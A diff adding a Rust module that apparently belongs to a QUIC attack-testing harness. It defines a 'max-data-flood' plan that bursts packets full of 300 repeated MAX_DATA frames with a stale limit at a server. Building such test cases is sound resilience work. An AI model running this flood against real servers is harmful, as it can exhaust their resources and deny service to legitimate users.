@@ -1,0 +1,30 @@
+//! Credit that changes nothing.
+
+use courser_crypto::Space;
+use courser_wire::{Frame, MaxData};
+
+use crate::attack::{Plan, Victim};
+use crate::encode;
+
+use super::Crowd;
+
+/// How the attack is listed.
+pub(super) const PLAN: Plan = Plan {
+    name: "max-data-flood",
+    labels: &["A28", "A33"],
+    summary: "packets full of MAX_DATA frames with limits that were passed long ago",
+    victim: Victim::Server,
+    make: || Box::new(max_data_flood()),
+};
+
+fn max_data_flood() -> Crowd {
+    Crowd::new(2, |connection, _, now| {
+        let frame = encode(&Frame::MaxData(MaxData { limit: 1 }));
+        for _ in 0..BURST {
+            connection.send_packet(now, Space::Application, vec![frame.repeat(300)]);
+        }
+    })
+}
+
+/// Packets of one connection in one turn.
+const BURST: usize = 16;
